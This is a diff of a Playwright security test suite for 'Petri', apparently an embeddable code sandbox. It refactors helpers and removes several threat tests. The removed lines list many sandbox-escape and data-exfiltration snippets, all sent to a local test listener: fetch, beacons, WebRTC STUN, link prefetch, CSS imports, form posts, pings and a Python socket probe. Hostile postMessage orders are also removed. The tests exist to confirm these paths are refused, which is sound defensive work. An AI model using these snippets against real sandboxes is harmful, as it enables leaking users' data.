@@ -1,39 +1,11 @@
 import { readFile } from 'node:fs/promises';
-import type { Frame, Page } from '@playwright/test';
-import type { Petri } from '../../../web/api/petri.ts';
-import type { PetriModule } from '../../fixtures/page-runs.ts';
-import { PetriPage } from '../../fixtures/petri-page.ts';
+import { loadPetri, runIn, STAGE } from '../../fixtures/docs-page.ts';
+import { documentExits, escape, exits, leading, pythonExits } from '../../fixtures/exits.ts';
 import { expect, expectRefused, foundIn, Listener, test, trying } from '../../fixtures/threats.ts';
 
 test.describe.configure({ mode: 'default' });
 
 const HELLO_C = '#include <stdio.h>\nint main(void) { puts("c"); }\n';
-const STAGE = '<div id="stage"></div>';
-/** The same machine is another site by its other name. */
-const OTHER_SITE = { host: 'localhost' };
-
-/** What a docs page has of Petri today: the API, from another origin. */
-async function loadPetri(where: Page | Frame, site: string): Promise<void> {
-  await where.evaluate(async (address) => {
-    const { createPetri } = (await import(address)) as PetriModule;
-    Object.assign(globalThis, { petri: await createPetri() });
-  }, `${site}petri.js`);
-}
-
-/** Runs a cell in such a page, on a stage. */
-function runIn(where: Page | Frame, language: string, source: string, timeMs = 20_000): Promise<string> {
-  return where.evaluate(
-    async (request) => {
-      const { petri } = globalThis as unknown as { petri: Petri };
-      const stage = document.querySelector('#stage');
-      if (stage === null) throw new Error('there is no stage');
-      const run = petri.run(request, { stage });
-      const { stdout, stderr, outcome, diagnostics } = await run.result;
-      return `${outcome}\n${stdout}${stderr}${diagnostics.map(({ message }) => message).join('\n')}`;
-    },
-    { language, source, limits: { timeMs } },
-  );
-}
 
 test('threat 20 docs reader: a cell reaches nothing of the page that shows it', async ({
   page,
@@ -79,96 +51,6 @@ test('threat 20 docs reader: a cell reaches nothing of the page that shows it', 
   expect(await runIn(page, 'javascript', `console.log('next')`)).toBe('exited\nnext\n');
 });
 
-/** Ways out for a module, in a worker or in a document; `where` is the listener. */
-const exits = (where: string): Record<string, string> => ({
-  fetch: `await fetch('http://${where}/?fetch')`,
-  'no-cors fetch': `await fetch('http://${where}/?no-cors', { mode: 'no-cors', keepalive: true })`,
-  'later fetch': `fetchLater('http://${where}/?later', { activateAfter: 0 }); return new Promise(() => {})`,
-  request: `await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.onload = resolve; r.onerror = reject; r.open('POST', 'http://${where}/?xhr'); r.send('secret'); })`,
-  socket: `await new Promise((resolve, reject) => { const s = new WebSocket('ws://${where}/socket'); s.onopen = resolve; s.onerror = reject; })`,
-  stream: `await new WebSocketStream('ws://${where}/stream').opened`,
-  transport: `await new WebTransport('https://${where}/transport').ready`,
-  events: `await new Promise((resolve, reject) => { const s = new EventSource('http://${where}/?events'); s.onopen = resolve; s.onerror = reject; })`,
-  module: `const address = 'http://${where}/module.js'; await import(address)`,
-  script: `importScripts('http://${where}/script.js')`,
-  worker: `await new Promise((resolve, reject) => { const w = new Worker('http://${where}/worker.js'); w.onmessage = resolve; w.onerror = reject; })`,
-  font: `await new FontFace('x', 'url(http://${where}/font.woff2)').load()`,
-  wasm: `await WebAssembly.compileStreaming(fetch('http://${where}/x.wasm'))`,
-  beacon: `if (!navigator.sendBeacon('http://${where}/?beacon', 'secret')) throw new Error('refused'); return new Promise(() => {})`,
-});
-
-/** Ways out that need a document. */
-const documentExits = (where: string, packets: string): Record<string, string> => ({
-  WebRTC: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
-  picture: `await new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = 'http://${where}/i.png'; })`,
-  ...Object.fromEntries(
-    ['prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'].map((rel) => [
-      rel,
-      `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'http://${where}/?${rel}'; await new Promise((resolve, reject) => { l.onload = resolve; l.onerror = reject; document.head.append(l); })`,
-    ]),
-  ),
-  ...Object.fromEntries(
-    ['iframe', 'embed', 'object', 'video', 'audio', 'script', 'track', 'source', 'input'].map((tag) => [
-      `<${tag}>`,
-      `const e = document.createElement('${tag}'); e.type = '${tag === 'input' ? 'image' : ''}'; await new Promise((resolve, reject) => { e.onerror = reject; e.src = e.data = 'http://${where}/?${tag}'; document.body.append(e); })`,
-    ]),
-  ),
-  speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${where}/?speculation'], eagerness: 'immediate' }] }); document.head.append(s); return new Promise(() => {})`,
-  style: `document.body.style.background = 'url(http://${where}/?style)'; const s = document.createElement('style'); s.textContent = '@import url(http://${where}/?import); @font-face { font-family: y; src: url(http://${where}/?face) } body { font-family: y }'; document.head.append(s); return new Promise(() => {})`,
-  form: `const f = document.createElement('form'); f.action = 'http://${where}/?form'; document.body.append(f); f.submit(); return new Promise(() => {})`,
-  ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${where}/?ping'; document.body.append(a); a.click(); return new Promise(() => {})`,
-  policy: `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri http://${where}/?report"; document.head.append(m); new Image().src = 'data:image/png,'; return new Promise(() => {})`,
-  'nested script': `const f = document.createElement('iframe'); f.srcdoc = '<script>new Image().src = "http://${where}/?nested"; new RTCPeerConnection({ iceServers: [{ urls: "stun:${packets}" }] }).createOffer()</scr' + 'ipt>'; document.body.append(f); return new Promise(() => {})`,
-  'nested picture': `const f = document.createElement('iframe'); f.srcdoc = '<img src="http://${where}/?nested-picture"><meta http-equiv="refresh" content="0;url=http://${where}/?nested-refresh"><link rel="preconnect" href="http://${where}">'; document.body.append(f); return new Promise(() => {})`,
-  // What the policy knows runs in a frame within the preview, too, if something there has the name of the guard.
-  'nested guard': `const own = [...document.scripts].find((script) => script.textContent.includes('escape')); const name = '__pe' + 'tri'; for (const tag of ['object', 'embed', 'form', 'a', 'iframe']) { const f = document.createElement('iframe'); f.srcdoc = '<' + tag + ' id="' + name + '" name="' + name + '"></' + tag + '><script>' + own.textContent + '</scr' + 'ipt>'; document.body.append(f); } return new Promise(() => {})`,
-});
-
-/** Ways in which a document leads itself elsewhere. */
-const leading = (where: string): readonly string[] => [
-  `location = 'http://${where}/?location'`,
-  `location.replace('http://${where}/?replace')`,
-  `const a = document.createElement('a'); a.href = 'http://${where}/?click'; document.body.append(a); a.click()`,
-  `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://${where}/?refresh'; document.head.append(m)`,
-  `open('http://${where}/?self', '_self')`,
-];
-
-/** A script that the policy of the preview knows: within a frame inside of the preview it would have WebRTC. */
-const escape = (packets: string): string => `<script>
-var escape = 1;
-if (self.RTCPeerConnection) {
-  var c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${packets}' }] });
-  c.createDataChannel('x');
-  c.createOffer().then((offer) => c.setLocalDescription(offer));
-}
-</script>`;
-
-const PYTHON = (where: string): string => `import js, json
-found = {}
-async def attempt(name, work):
-    try:
-        value = work()
-        if hasattr(value, "then") or hasattr(value, "__await__"): value = await value
-        found[name] = "reached: " + str(value)
-    except BaseException as error: found[name] = "refused: " + type(error).__name__
-def urllib():
-    import urllib.request
-    return urllib.request.urlopen("http://${where}/?urllib").read()
-def sockets():
-    import socket
-    socket.create_connection(("127.0.0.1", ${where.split(':')[1] ?? ''}), 1).send(b"secret")
-    raise OSError("whoever listens tells")
-def pyodide_http():
-    from pyodide.http import open_url
-    return open_url("http://${where}/?open_url").read()
-await attempt("fetch", lambda: js.fetch("http://${where}/?python"))
-await attempt("WebSocket", lambda: js.eval("1") or js.WebSocket.new("ws://${where}"))
-await attempt("urllib", urllib)
-await attempt("sockets", sockets)
-await attempt("open_url", pyodide_http)
-print("found" + json.dumps(found))
-`;
-
 test('threat 21 docs reader: nothing that a cell knows gets out, by any of the ways there are', async ({
   petri,
   page,
@@ -180,7 +62,7 @@ test('threat 21 docs reader: nothing that a cell knows gets out, by any of the w
   expectRefused(foundIn(worker), Object.keys(out));
   const python = await runs.run({
     language: 'python',
-    source: PYTHON(listener.host),
+    source: pythonExits(listener.host),
     limits: { timeMs: 60_000 },
   });
   expectRefused(foundIn(python), ['fetch', 'WebSocket', 'urllib', 'sockets', 'open_url']);
@@ -289,145 +171,4 @@ console.log('drawn');`,
   expect(await petri.run()).toBe('exited 0');
   expect(await petri.outputText()).toBe('drawn\n');
   petri.problems.length = 0;
-});
-
-/** Everything that somebody who knows the code would post. */
-const ORDERS = [
-  { petri: 'sandbox', frame: 'parent.postMessage("taken", "*")', worker: '', nonce: '' },
-  { type: 'run', id: 1, digest: 'x', setup: {} },
-  { html: '<p>injected</p>' },
-  { type: 'stop', id: 1 },
-  'run',
-  null,
-];
-
-test('threat 23 cell: a page that posts orders to Petri’s windows moves nothing', async ({
-  page,
-  docs,
-  site,
-  petri,
-}) => {
-  // Two frames of the sandbox in a hostile page: what is no parent of theirs is not heard, and a parent once.
-  const address = docs.page(
-    'orders',
-    `<iframe name="one" sandbox="allow-scripts" src="${site}sandbox.html"></iframe>
-<iframe name="own" src="${site}sandbox.html"></iframe>
-<iframe name="sibling" srcdoc="<script>onmessage = ({ data }) => { for (const name of ['one', 'own']) parent.frames[name].postMessage(data, '*', [new MessageChannel().port2]); }</script>"></iframe>`,
-  );
-  await page.goto(address);
-  await page.evaluate((orders) => {
-    Object.assign(globalThis, { heard: [] as unknown[] });
-    addEventListener('message', ({ data, origin }) => {
-      (globalThis as unknown as { heard: unknown[] }).heard.push([data, origin]);
-    });
-    for (const order of orders)
-      (frames as unknown as Record<string, Window>)['sibling']?.postMessage(order, '*');
-  }, ORDERS);
-  const heard = (): Promise<unknown[]> =>
-    page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard);
-  await page.waitForTimeout(300);
-  expect(await heard()).toEqual([]);
-  // Its own parent may hand it code: that is the parent's own, and has no origin, however the frame was made.
-  await page.evaluate(() => {
-    const code = `window.petriStartFrame = () => {
-      let storage = 'none';
-      try { storage = String(localStorage.length); } catch {}
-      parent.postMessage(['taken', self.origin, storage], '*');
-    }`;
-    for (const name of ['one', 'own', 'one', 'own']) {
-      const target = (frames as unknown as Record<string, Window>)[name];
-      target?.postMessage({ petri: 'sandbox', frame: code, worker: '', nonce: '' }, '*', [
-        new MessageChannel().port2,
-      ]);
-    }
-  });
-  await expect.poll(async () => (await heard()).length).toBe(2);
-  expect(await heard()).toEqual(Array(2).fill([['taken', 'null', 'none'], 'null']));
-
-  // A page that opened the app posts to it.
-  const popup = page.waitForEvent('popup');
-  await page.evaluate((app) => Object.assign(globalThis, { app: open(app) }), site);
-  const app = await popup;
-  await expect(app.getByRole('button', { name: 'Run' })).toBeVisible();
-  await page.evaluate((orders) => {
-    for (const order of orders) (globalThis as unknown as { app: Window }).app.postMessage(order, '*');
-  }, ORDERS);
-  await app.waitForTimeout(300);
-  await expect(app.getByRole('status', { name: 'Run status' })).toHaveText('Ready');
-  await app.close();
-  petri.requests.length = 0;
-  await petri.openCell({ language: 'javascript', source: 'console.log("works")' });
-  expect(await petri.run()).toBe('exited 0');
-});
-
-test('threat 24 cell: another site cannot frame the app, and where no header says so it frames one that has nothing of the reader’s', async ({
-  docs,
-  site,
-  own,
-}) => {
-  const mine = 'console.log("mine")';
-  const reader = new PetriPage(await own.newPage(), site);
-  await reader.open();
-  await reader.choose('javascript');
-  await reader.setSource(mine);
-  // Saving is not immediate.
-  await reader.page.waitForTimeout(1_500);
-  await reader.page.reload();
-  await expect(reader.editor).toHaveValue(mine);
-
-  const { page } = reader;
-  const app = page.frameLocator('iframe');
-  const around = docs.page('clicks', `<iframe src="${site}" width="900" height="600"></iframe>`, OTHER_SITE);
-  await page.goto(around);
-  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
-  // As a host without headers serves it.
-  await page.route(site, async (route) => {
-    const response = await route.fetch();
-    const { 'content-security-policy': _policy, ...headers } = response.headers();
-    await route.fulfill({ response, headers });
-  });
-  await page.goto(around);
-  await expect(app.getByRole('button', { name: 'Run' })).toBeVisible();
-  await expect(app.getByRole('textbox', { name: 'Editor' })).not.toHaveValue(mine);
-  await expect(app.getByRole('status', { name: 'Run status' })).toHaveText('Ready');
-  await page.unroute(site);
-  await reader.open();
-  await expect(reader.editor).toHaveValue(mine);
-  expect(await reader.run()).toBe('exited 0');
-});
-
-test('threat 25 embed: without storage, headers or an origin of its own a page runs programs all the same', async ({
-  page,
-  docs,
-  site,
-  own,
-}) => {
-  await page.addInitScript(() => {
-    for (const name of ['indexedDB', 'localStorage', 'caches']) {
-      Object.defineProperty(globalThis, name, {
-        get() {
-          throw new DOMException('blocked', 'SecurityError');
-        },
-      });
-    }
-  });
-  await page.goto(docs.page('api', STAGE));
-  await loadPetri(page, site);
-  expect(await runIn(page, 'c', HELLO_C)).toBe('exited\nc\n');
-
-  const reader = await own.newPage();
-  for (const attributes of ['', 'sandbox="allow-scripts"']) {
-    const frame = `<iframe name="docs" ${attributes} src="${docs.page('api', STAGE)}"></iframe>`;
-    await reader.goto(docs.page('outer', frame, OTHER_SITE));
-    const inner = reader.frame({ name: 'docs' });
-    if (inner === null) throw new Error('there is no frame');
-    await loadPetri(inner, site);
-    for (const [language, source] of [
-      ['c', HELLO_C],
-      ['javascript', 'console.log("c")'],
-      ['html', '<script>console.log("c")</script>'],
-    ] as const) {
-      expect(await runIn(inner, language, source), `${language} ${attributes}`).toBe('exited\nc\n');
-    }
-  }
 });
